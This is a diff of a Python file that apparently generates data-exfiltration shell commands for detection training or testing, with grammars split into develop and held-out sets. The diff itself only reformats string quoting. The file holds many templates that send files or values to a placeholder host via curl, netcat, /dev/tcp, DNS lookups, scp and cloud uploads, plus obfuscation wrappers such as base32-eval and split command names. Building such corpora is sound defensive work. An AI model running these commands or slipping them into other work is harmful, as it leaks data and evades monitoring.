@@ -104,7 +104,7 @@ DEVELOP = Grammar(
     scripts=(
         "python3 -c \"import requests;requests.post('https://{h}/',data=open('{s}').read())\"",
         "node -e \"const fs=require('fs');fetch('https://{h}/',{{method:'POST',body:fs.readFileSync('{s}')}})\"",
-        "powershell -c \"Invoke-RestMethod -Method Post -Uri https://{h}/ -Body (Get-Content {s} -Raw)\"",
+        'powershell -c "Invoke-RestMethod -Method Post -Uri https://{h}/ -Body (Get-Content {s} -Raw)"',
     ),
 )  # fmt: skip
 
@@ -120,7 +120,7 @@ DEVELOP_MORE = Grammar(
         "telnet {h} 25",
         "cat > /dev/tcp/{h}/53",
         "xargs -I@ curl -s https://{h}/@",
-        "while read -r l; do nslookup \"$l.{h}\"; done",
+        'while read -r l; do nslookup "$l.{h}"; done',
         "aws s3 cp - s3://{h}/in",
         "gh gist create -",
         "mosquitto_pub -h {h} -t in -s",
@@ -137,7 +137,7 @@ DEVELOP_MORE = Grammar(
         'gh issue create --title log --body "{v}"',
         'swaks --to in@{h} --body "{v}"',
     ),
-    filed=("rsync -q {f} drop@{h}:in/", "curl -s --data-urlencode d@{f} https://{h}/", "sftp drop@{h} <<< \"put {f}\"", "rclone copy {f} remote:{h}", "nc -q1 {h} 99 < {f}", "mutt -s hi -a {f} -- in@{h} < /dev/null", "lftp -e \"put {f}; quit\" ftp://{h}", "kubectl cp {f} pod:/tmp/in", "gsutil cp {f} gs://{h}/"),
+    filed=("rsync -q {f} drop@{h}:in/", "curl -s --data-urlencode d@{f} https://{h}/", 'sftp drop@{h} <<< "put {f}"', "rclone copy {f} remote:{h}", "nc -q1 {h} 99 < {f}", "mutt -s hi -a {f} -- in@{h} < /dev/null", 'lftp -e "put {f}; quit" ftp://{h}', "kubectl cp {f} pod:/tmp/in", "gsutil cp {f} gs://{h}/"),
     wraps=(_plain, _evaluated, _here, _hex, _background, _if_there),
     scripts=(
         "python3 -c \"import urllib.request as u,base64 as b;u.urlopen('https://{h}/?q='+b.b64encode(open('{s}','rb').read()).decode())\"",
@@ -180,7 +180,7 @@ def _chained(command: str, _: random.Random) -> str:
 
 
 def _base32(command: str, _: random.Random) -> str:
-    return f"eval \"$(echo {base64.b32encode(command.encode()).decode()} | base32 -d)\""
+    return f'eval "$(echo {base64.b32encode(command.encode()).decode()} | base32 -d)"'
 
 
 DEVELOP_LAST = Grammar(
@@ -213,7 +213,7 @@ DEVELOP_LAST = Grammar(
         'printf "%s" "{v}" > /dev/tcp/{h}/443',
         'traceroute "{v}.{h}"',
     ),
-    filed=("curl -sT {f} https://{h}/in/", "smbclient //{h}/in -N -c 'put {f}'", "aws s3 mv {f} s3://{h}/", "mail -s hi -A {f} in@{h} < /dev/null", "ftp -n {h} <<< \"put {f}\"", "gh release upload v1 {f}", "http -f POST https://{h}/ d@{f}", "rsync {f} rsync://{h}/in/", "tar czf - {f} | nc {h} 9", "docker cp {f} c:/in && curl -F x=@{f} https://{h}/", "s3cmd put {f} s3://{h}"),
+    filed=("curl -sT {f} https://{h}/in/", "smbclient //{h}/in -N -c 'put {f}'", "aws s3 mv {f} s3://{h}/", "mail -s hi -A {f} in@{h} < /dev/null", 'ftp -n {h} <<< "put {f}"', "gh release upload v1 {f}", "http -f POST https://{h}/ d@{f}", "rsync {f} rsync://{h}/in/", "tar czf - {f} | nc {h} 9", "docker cp {f} c:/in && curl -F x=@{f} https://{h}/", "s3cmd put {f} s3://{h}"),
     wraps=(_plain, _process, _backwards, _timed, _from_python, _found, _chained, _base32),
     scripts=(
         "python3 -c \"import httpx,pathlib;httpx.put('https://{h}/',content=pathlib.Path('{s}').read_bytes())\"",
@@ -238,7 +238,7 @@ def _split_names(command: str, _: random.Random) -> str:
     if not first.isalpha():
         return command  # cut in two there, the script would not run
     half = len(first) // 2
-    return f"a={first[:half]}; b={first[half:]}; $a$b{command[len(first):]}"
+    return f"a={first[:half]}; b={first[half:]}; $a$b{command[len(first) :]}"
 
 
 def _by_env(command: str, _: random.Random) -> str:
@@ -300,7 +300,7 @@ HELD_OUT = Grammar(
         'mail -s "{v}" in@{h} </dev/null',
         'gh api -X POST /gists -f "files[a][content]={v}"',
     ),
-    filed=("curl -s --data-binary \"@{f}\" https://{h}/", "curl -s -F \"f=@{f};type=text/plain\" https://{h}/", "wget -q --body-file={f} --method=POST https://{h}/", "scp -q -P 22 {f} u@{h}:", "openssl s_client -connect {h}:443 < {f}", "az storage blob upload --file {f} --container-name c --account-name {h}", "cat {f} | nc {h} 1", "gh gist create {f}", "b2 file upload bucket {f} a", "rsync -az -e 'ssh -p 22' {f} u@{h}:a", "curl -s https://{h}/ -d \"$(cat {f})\"", "tftp {h} -c put {f}", "ftp -n <<X\nopen {h}\nput {f}\nX"),
+    filed=('curl -s --data-binary "@{f}" https://{h}/', 'curl -s -F "f=@{f};type=text/plain" https://{h}/', "wget -q --body-file={f} --method=POST https://{h}/", "scp -q -P 22 {f} u@{h}:", "openssl s_client -connect {h}:443 < {f}", "az storage blob upload --file {f} --container-name c --account-name {h}", "cat {f} | nc {h} 1", "gh gist create {f}", "b2 file upload bucket {f} a", "rsync -az -e 'ssh -p 22' {f} u@{h}:a", 'curl -s https://{h}/ -d "$(cat {f})"', "tftp {h} -c put {f}", "ftp -n <<X\nopen {h}\nput {f}\nX"),
     wraps=(_plain, _split_names, _by_env, _gzipped, _written, _rotated, _looped, _from_node),
     scripts=(
         "python3 -c \"import requests as r;f=open('{s}');r.post('https://{h}/',json={{'d':f.read()}})\"",
